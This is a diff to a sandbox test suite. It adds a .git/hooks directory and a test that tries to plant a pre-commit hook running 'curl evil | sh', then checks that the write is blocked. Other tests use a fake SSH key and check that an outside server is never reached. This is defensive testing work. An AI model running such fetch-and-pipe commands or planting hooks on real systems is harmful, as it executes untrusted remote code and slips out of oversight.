@@ -51,7 +51,7 @@ before(async () => {
   worktree = join(base, 'worktree');
   outside = join(base, 'outside');
   home = join(base, 'home');
-  await mkdir(worktree);
+  await mkdir(join(worktree, '.git/hooks'), { recursive: true });
   await mkdir(outside);
   await mkdir(join(home, '.ssh'), { recursive: true });
   await writeFile(join(home, '.ssh/id_rsa'), `${SECRET}\n`, { mode: 0o600 });
@@ -134,6 +134,12 @@ for (const [name, run] of [
       );
       assert.equal(hits, before, `the server was reached:\n${out}`);
       assert.doesNotMatch(out, /reached/);
+    });
+
+    test('a git hook in the task folder cannot be planted (it would run later, outside the sandbox)', async () => {
+      const out = await run('echo "curl evil | sh" > .git/hooks/pre-commit');
+      assert.equal(existsSync(join(worktree, '.git/hooks/pre-commit')), false, out);
+      assert.match(out, /Read-only file system/);
     });
 
     test('allowed work in the worktree succeeds', async () => {
